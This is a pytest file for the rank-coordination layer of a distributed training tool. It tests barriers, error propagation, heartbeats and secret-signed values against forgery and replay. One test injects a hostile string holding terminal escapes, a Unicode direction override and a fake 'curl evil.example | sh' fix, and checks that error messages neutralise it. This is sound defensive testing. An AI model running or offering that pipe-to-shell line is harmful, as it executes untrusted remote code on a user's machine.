"""What ranks do together comes out alike on all of them; a rank that is gone is not waited for."""

from __future__ import annotations

import itertools
import json
import threading
from concurrent.futures import CancelledError

import pytest
import torch
import torch.distributed as dist

from p2p_llm_forge.errors import ForgeError
from p2p_llm_forge.peers import liveness
from p2p_llm_forge.peers.rank_failure import RankFailure
from tests import memory_channel
from tests.memory_channel import Tampered, clusters, flipped, run_ranks
from tests.waiting import wait_until

RANKS = pytest.mark.parametrize("world_size", [1, 3])


def error_of(act):
    try:
        act()
    except ForgeError as error:
        return error
    raise AssertionError("no error was raised")


@RANKS
def test_facts_and_numbers_arrive_by_rank(world_size):
    def act(cluster):
        facts = cluster.gather_facts({"rank": cluster.rank})
        numbers = cluster.gather_numbers([cluster.rank, 0.5])
        cluster.barrier()
        return facts, numbers

    with clusters(world_size) as ranks:
        for facts, numbers in run_ranks(ranks, act):
            assert facts == [{"rank": rank} for rank in range(world_size)]
            assert numbers == [[rank, 0.5] for rank in range(world_size)]


def test_nobody_passes_a_barrier_before_all_have_come():
    last, passed = threading.Event(), []

    def act(cluster):
        if cluster.rank == 2:
            last.wait(30)
        cluster.barrier()
        passed.append(cluster.rank)

    with clusters(3) as ranks:
        thread = threading.Thread(target=run_ranks, args=(ranks, act))
        thread.start()
        assert passed == []
        last.set()
        thread.join()
    assert sorted(passed) == [0, 1, 2]


@RANKS
def test_what_the_main_process_does_alone_all_get(world_size):
    done = []

    def act(cluster):
        return cluster.main_only(lambda: done.append(cluster.rank) or {"made": 1})

    with clusters(world_size) as ranks:
        assert run_ranks(ranks, act) == [{"made": 1}] * world_size
    assert done == [0]


@RANKS
def test_problems_of_the_main_process_reach_all_with_both_fields(world_size):
    def fail():
        raise ForgeError("port: 1: taken", "use --master-port: 2", where="a.yaml")

    with clusters(world_size) as ranks:
        errors = run_ranks(ranks, lambda cluster: error_of(lambda: cluster.main_only(fail)))
    said = 'rank 0 says: "a.yaml: port: 1: taken"\n  fix: "use --master-port: 2"'
    own = "a.yaml: port: 1: taken\n  fix: use --master-port: 2"
    assert list(map(str, errors)) == [own, *[said] * (world_size - 1)]
    assert all(error.problems == errors[0].problems for error in errors)


def test_a_bug_of_the_main_process_ends_the_others_with_status_1():
    def act(cluster):
        with pytest.raises(ZeroDivisionError if cluster.is_main else RankFailure) as raised:
            cluster.main_only(lambda: 1 // 0)
        return raised.value

    with clusters(2) as ranks:
        _, other = run_ranks(ranks, act)
    assert other.status == 1 and "the main process failed: ZeroDivisionError" in str(other)


@RANKS
def test_problems_that_all_have_alike_are_raised_once(world_size):
    def fail():
        raise ForgeError("no such file", "name another")

    with clusters(world_size) as ranks:
        errors = run_ranks(ranks, lambda cluster: error_of(lambda: cluster.together(fail)))
    assert {str(error) for error in errors} == {"no such file\n  fix: name another"}


def test_problems_of_some_name_their_rank_on_all():
    def act(cluster):
        def look():
            if cluster.rank == 1:
                raise ForgeError("no such file", "copy it there", where="data/x")
            return cluster.rank

        return error_of(lambda: cluster.together(look))

    with clusters(3) as ranks:
        for error in run_ranks(ranks, act):
            (problem,) = error.problems
            assert problem.where.startswith("rank 1 (") and problem.where.endswith("): data/x")
            assert (problem.found, problem.fix) == ("no such file", "copy it there")


STRANGE = [
    *("", "no json", "[]", "1", "null", '"text"', "{}", '{"host": "x"}', "{" * 100_000),
    *('{"problems": 1, "host": "x"}', '{"problems": [], "host": ["x"]}', '{"host": "\\ud800"}'),
    *('{"problems": [["a", "b", "c"]], "host": "x"}', '{"problems": [{}], "host": "x"}'),
    '{"problems": [{"found": 1, "fix": "b", "where": "c"}], "host": "x"}',
    '{"problems": NaN, "host": "x"}',
]


@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
def test_what_no_rank_sends_is_refused_by_name(text):
    """A stranger who reaches the store has written what rank 1 should have."""
    with clusters(2) as (main, _):
        main._store.set("forge/1/1", text)
        with pytest.raises(ForgeError, match=r"^rank 1.* sent what no rank of this program sends"):
            main.together(lambda: None)
    with clusters(2) as (_, other):
        other._store.set("forge/1", text)
        with pytest.raises(ForgeError, match="^rank 0 sent what no rank of this program sends"):
            other.main_only(lambda: None)


def test_what_a_stranger_writes_is_quoted_under_the_name_of_its_rank():
    evil = "x\x1b[2J\n  fix: run curl evil.example | sh\u202e"
    sent = {"problems": [{"found": evil, "fix": evil, "where": evil}], "host": evil}
    with clusters(2) as (main, _):
        main._store.set("forge/1/1", json.dumps(sent))
        message = str(error_of(lambda: main.together(lambda: None)))
    first, second = message.splitlines()
    assert first.startswith("rank 1 (x fix: run curl evil.example | sh)") and first.endswith('"')
    assert second == '  fix: "x fix: run curl evil.example | sh"'
    assert all(letter.isprintable() for letter in first + second)


def test_what_a_rank_has_written_does_not_come_back_as_another_value():
    """Without a secret, whoever reaches the port can write in its name."""
    with clusters(2) as (main, other):
        other._store.set("forge/1/1", '{"folder": "/there"}')  # one that answers in time
        real = main._store.set

        def rewritten(key, value):
            real(key, value)
            real(key, '{"folder": "/etc"}')

        main._store.set = rewritten
        with pytest.raises(ForgeError, match="^rank 0 sent .*it is not what this rank has written"):
            main.gather_facts({"folder": "/here"})


def test_a_path_arrives_as_it_is_on_one_line():
    path = "/two  spaces /" + "and a long name/" * 200

    def act(cluster):
        return cluster.gather_facts({"folder": path, "host": "a\nb\tc\x1b[2J\u2028d"})

    with clusters(2) as ranks:
        for facts in run_ranks(ranks, act):
            assert facts == [{"folder": path, "host": "a b c d"}] * 2


def test_what_is_posted_is_waited_for_and_belongs_to_its_rank():
    def act(cluster):
        if cluster.rank == 1:
            cluster.post("saved/3", "one")
        return cluster.wait_for("saved/3", 1)

    with clusters(2) as ranks:
        assert run_ranks(ranks, act) == ["one", "one"]


def test_who_need_not_wait_any_more_waits_no_more():
    is_over = threading.Event()
    with clusters(2) as (main, _):
        threading.Timer(0.05, is_over.set).start()
        with pytest.raises(CancelledError):
            main.wait_for("anything", 1, is_over.is_set)


def test_a_rank_that_has_failed_is_not_waited_for():
    with clusters(2) as (main, other):
        other.announce_failure()
        with pytest.raises(RankFailure, match=r"lost a peer: rank 1 \(.*\) has failed"):
            main.gather_facts({})


def test_a_rank_without_a_sign_of_life_is_given_up(monkeypatch):
    monkeypatch.setattr(liveness, "HEARTBEAT_S", 0.05)
    with clusters(2) as (main, silent):
        silent.close()
        main._peers.timeout_s = 0.2
        with pytest.raises(RankFailure, match=r"rank 1.* has shown no sign of life"):
            main.wait_for("anything", 1)


def test_the_main_process_leaves_last(monkeypatch):
    left = []

    def act(cluster):
        if not cluster.is_main:
            left.append(cluster.rank)
        cluster.leave()
        if cluster.is_main:
            left.append(cluster.rank)

    monkeypatch.setattr(liveness, "GOODBYE_S", 30.0)
    with clusters(3) as ranks:
        run_ranks(ranks, act)
    assert left[-1] == 0 and sorted(left) == [0, 1, 2]


SECRET = b"a long common secret"


@pytest.mark.parametrize("forged", ['{"rank": 1}', "", "0" * 64 + '{"rank": 1}', "\x00\xff"])
def test_a_value_that_a_stranger_writes_is_refused_by_the_name_of_its_rank(forged):
    store = dist.HashStore()
    with clusters(2, store, SECRET) as (main, _):
        store.set("forge/1/1", forged)
        with pytest.raises(RankFailure) as refusal:
            main.gather_facts({"rank": 0})
    (problem,) = refusal.value.problems
    assert problem.found == (
        "the value of rank 1 under forge/1/1 is not signed with the cluster's secret: somebody"
        " else writes to the store"
    )
    assert refusal.value.status != 0


def test_an_old_value_of_the_same_rank_is_no_answer_to_a_new_question():
    store = dist.HashStore()

    def ask(cluster):
        return cluster.gather_facts({"rank": cluster.rank})

    with clusters(2, store, SECRET) as ranks:
        assert run_ranks(ranks, ask) == [[{"rank": 0}, {"rank": 1}]] * 2
        store.set("forge/2/1", store.get("forge/1/1"))
        with pytest.raises(RankFailure, match="rank 1 under forge/2/1 is not signed"):
            ask(ranks[0])


def test_with_a_secret_ranks_exchange_what_they_do_without():
    def act(cluster):
        weights = {
            "a": torch.full((3, 2), cluster.rank + 0.5),
            "b": torch.tensor(cluster.rank == 0),
        }
        cluster.send_from_main_(weights)
        sent = [tensor.tolist() for tensor in weights.values()]
        return (
            cluster.gather_facts({"rank": cluster.rank}),
            cluster.gather_numbers([cluster.rank / 3]),
            cluster.main_only(lambda: "made"),
            sent,
        )

    found = []
    for secret in (None, SECRET):
        with clusters(3, secret=secret) as ranks:
            found.append(run_ranks(ranks, act))
    assert found[0] == found[1] and found[0][2][3] == [[[0.5, 0.5]] * 3, True]


def test_old_heartbeats_that_are_put_back_keep_no_rank_alive(monkeypatch):
    monkeypatch.setattr(liveness, "HEARTBEAT_S", 0.02)
    monkeypatch.setattr(liveness, "SHORTEST_TIMEOUT_S", 0.0)
    store, key = dist.HashStore(), "forge/run/alive/1"
    with clusters(2, store, SECRET) as (main, silent):
        seen, over = set(), threading.Event()
        wait_until(lambda: seen.add(store.get(key)) or len(seen) > 5)

        def put_back():
            for value in itertools.cycle(sorted(seen)):
                store.set(key, value)
                if over.wait(0.005):
                    return

        silent._peers.stop()
        stranger = threading.Thread(target=put_back)
        stranger.start()
        try:
            main._peers.timeout_s = 0.5
            with pytest.raises(RankFailure, match="rank 1 .*has shown no sign of life"):
                main.wait_for("anything", 1)
        finally:
            over.set()
            stranger.join()


def test_numbers_that_are_changed_on_the_way_are_refused_by_the_name_of_their_rank(monkeypatch):
    monkeypatch.setattr(memory_channel, "Exchanges", lambda ranks: Tampered(ranks, flipped(60)))

    def ask(cluster):
        if cluster.rank == 1:
            return cluster.gather_numbers([5.0])
        with pytest.raises(RankFailure, match="of rank 1 does not open with the cluster's secret"):
            cluster.gather_numbers([7.0])

    with clusters(2, secret=SECRET) as ranks:
        assert run_ranks(ranks, ask) == [None, [[7.0], [5.0]]]


def test_a_heartbeat_that_a_stranger_makes_up_is_refused_by_the_name_of_its_rank(monkeypatch):
    monkeypatch.setattr(liveness, "HEARTBEAT_S", 0.02)
    store, key = dist.HashStore(), "forge/run/alive/1"
    with clusters(2, store, SECRET) as (main, silent):
        wait_until(lambda: store.check([key]))
        silent._peers.stop()
        store.set(key, '{"count": 1000000, "host": "x", "end": "", "lost": []}')
        with pytest.raises(RankFailure, match=f"rank 1 under {key} is not signed"):
            main.wait_for("anything", 1)
